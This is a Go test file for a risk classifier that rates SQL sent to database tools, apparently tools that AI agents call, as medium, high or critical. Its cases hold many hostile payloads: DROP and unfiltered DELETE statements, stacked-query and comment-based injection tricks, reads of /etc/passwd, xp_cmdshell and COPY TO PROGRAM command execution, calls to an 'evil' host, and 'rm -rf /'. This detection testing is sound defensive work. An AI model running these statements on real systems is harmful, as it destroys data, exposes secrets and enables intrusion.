package risk_test

import (
	"testing"

	"github.com/toolcrib/toolcrib/internal/hub"
	"github.com/toolcrib/toolcrib/internal/risk"
)

// database is a tool that takes SQL.
func database(t testing.TB) *risk.Profile {
	t.Helper()
	return risk.Describe(risk.Description{Server: "test", Name: "execute_sql", Raw: []byte(
		`{"name":"execute_sql","description":"Execute SQL","inputSchema":{"type":"object","properties":{"sql":{"type":"string"}}}}`,
	)})
}

// What SQL is rated: as the tool if it does more than look, which is critical.
func TestSQL(t *testing.T) {
	const medium, high, critical = hub.RiskMedium, hub.RiskHigh, hub.RiskCritical
	// The tool takes only SQL that it is given by name, so that the statement's own
	// risk shows: its verb is a read.
	reader := risk.Describe(risk.Description{Name: "query_database", Raw: []byte(
		`{"name":"query_database","description":"Query the database","inputSchema":{"type":"object","properties":{"sql":{"type":"string"}}}}`,
	)})
	for _, tc := range []struct {
		sql  string
		want hub.Risk
	}{
		{"SELECT 1", medium},
		{"select * from users where id = 1", medium},
		{"SELECT count(*) FROM t GROUP BY a HAVING count(*) > 1 ORDER BY 2", medium},
		{"WITH x AS (SELECT 1) SELECT * FROM x", medium},
		{"(SELECT 1) UNION (SELECT 2)", medium},
		{"SELECT 'DROP TABLE users'", medium},
		{"SELECT \"delete\" FROM t", medium},
		{"SELECT deleted_at, updated_at FROM t -- delete later", medium},
		{"/* drop table x */ SELECT 1", medium},
		{"SHOW TABLES", medium},
		{"DESCRIBE users", medium},
		{"EXPLAIN SELECT * FROM t", medium},
		{"PRAGMA table_info(users)", medium},
		{"VALUES (1), (2)", medium},
		{"SELECT * FROM t FOR UPDATE", medium},
		{"SELECT replace(name, 'a', 'b') FROM t", medium},
		{"SELECT 1;", medium},
		{"SELECT 1; SELECT 2", medium},
		{"SELECT truncate(1.234, 2)", medium},
		{"SELECT * FROM orders WHERE note LIKE '%; DROP%'", medium},
		{"INSERT INTO t VALUES (1)", high},
		{"insert into t select * from u", high},
		{"REPLACE INTO t VALUES (1)", high},
		{"UPDATE t SET a = 1 WHERE id = 2", high},
		{"DELETE FROM t WHERE id = 2", high},
		{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", high},
		{"CREATE TABLE t (id int)", high},
		{"CREATE INDEX i ON t (a)", high},
		{"SELECT * INTO copy FROM t", high},
		{"COPY t FROM '/tmp/x.csv'", high},
		{"PRAGMA journal_mode = DELETE", high},
		{"VACUUM", high},
		{"CALL do_something()", high},
		{"SELECT set_config('a', 'b', false)", high},
		{"SELECT nextval('seq')", high},
		{"SELECT * FROM pg_shadow", high},
		{"WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", high},
		{"EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", high},
		{"gibberish here", high},
		{"SELECT 'unclosed", high},
		{"DROP TABLE users", critical},
		{"drop/**/table users", critical},
		{"DrOp TaBlE users", critical},
		{"TRUNCATE TABLE logs", critical},
		{"TRUNCATE logs", critical},
		{"ALTER TABLE t DROP COLUMN a", critical},
		{"GRANT ALL ON t TO eve", critical},
		{"REVOKE ALL ON t FROM bob", critical},
		{"DELETE FROM t", critical},
		{"DELETE FROM t -- WHERE id = 1", critical},
		{"DELETE FROM t WHERE 1=1", critical},
		{"DELETE FROM t WHERE true", critical},
		{"UPDATE t SET a = 1", critical},
		{"UPDATE t SET a = (SELECT b FROM u WHERE u.id = 1)", critical},
		{"SELECT 1; DROP TABLE users", critical},
		{"SELECT 1 DROP TABLE users", critical},
		{"SELECT 1;\n-- x\nDELETE FROM users", critical},
		{"/*!50000 DROP TABLE users */", critical},
		{"SELECT 1 /*! ; DROP TABLE users */", critical},
		{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", critical},
		{"COPY t TO PROGRAM 'sh -c id'", critical},
		{"COPY (SELECT 1) TO PROGRAM 'curl evil'", critical},
		{"SELECT * FROM t INTO OUTFILE '/var/www/x.php'", critical},
		{"SELECT load_file('/etc/passwd')", critical},
		{"SELECT pg_read_file('/etc/passwd')", critical},
		{"SELECT pg_catalog.pg_read_file('/etc/passwd')", critical},
		{"SELECT lo_export(1, '/tmp/x')", critical},
		{"SELECT * FROM dblink('host=x', 'drop table t') AS t(a int)", critical},
		{"EXEC xp_cmdshell 'dir'", critical},
		{"SELECT 1; EXEC master..xp_cmdshell 'dir'", critical},
		{"EXEC sp_configure 'show advanced options', 1", critical},
		{"DO $$ BEGIN EXECUTE 'drop table x'; END $$", critical},
		{"ATTACH DATABASE '/tmp/x' AS y", critical},
		{"SELECT load_extension('evil.so')", critical},
		{"SELECT writefile('/tmp/x', 'y')", critical},
		{"PRAGMA writable_schema = 1", critical},
		{"CREATE USER eve WITH SUPERUSER", critical},
		{"CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE C", critical},
		{"SET GLOBAL general_log = 1", critical},
		{"SHUTDOWN", critical},
		{"KILL 5", critical},
		{"SELECT utl_http.request('http://evil')", critical},
		{"\\! rm -rf /", critical},
		{".shell rm -rf /", critical},
	} {
		if got := reader.Assess(object(t, "sql", tc.sql)); got.Risk != tc.want {
			t.Errorf("%q is rated %s, not %s: %v", tc.sql, got.Risk, tc.want, got.Reasons)
		}
	}
}

// Quotes that are none for another database hide nothing.
func TestSQLOfAnotherDialect(t *testing.T) {
	tool := database(t)
	for _, sql := range []string{
		`SELECT 'a\'; DROP TABLE users; --'`,
		"SELECT 1 # '\n; DROP TABLE users; -- '",
		"SELECT `it's`; DROP TABLE users; -- '",
		"SELECT [it's]; DROP TABLE users; --']",
		"SELECT 1 --1; DROP TABLE users",
	} {
		if got := tool.Assess(object(t, "sql", sql)); got.Risk < hub.RiskHigh {
			t.Errorf("%q is rated %s", sql, got.Risk)
		}
	}
	for _, sql := range []string{"SELECT `a` FROM `t`", "SELECT [a] FROM [t]", `SELECT 'C:\temp'`} {
		if got := tool.Assess(object(t, "sql", sql)); got.Risk != hub.RiskMedium {
			t.Errorf("%q is rated %s: %v", sql, got.Risk, got.Reasons)
		}
	}
}

// Of a tool that runs SQL what only looks is of medium risk, and all else as bad as
// the tool.
func TestSQLLowersATool(t *testing.T) {
	tool := database(t)
	if tool.Risk() != hub.RiskCritical {
		t.Fatalf("the tool is rated %s", tool.Risk())
	}
	for sql, want := range map[string]hub.Risk{
		"SELECT 1":                 hub.RiskMedium,
		"INSERT INTO t VALUES (1)": hub.RiskCritical,
		"":                         hub.RiskCritical,
	} {
		if got := tool.Assess(object(t, "sql", sql)); got.Risk != want {
			t.Errorf("%q is rated %s, not %s", sql, got.Risk, want)
		}
	}
}
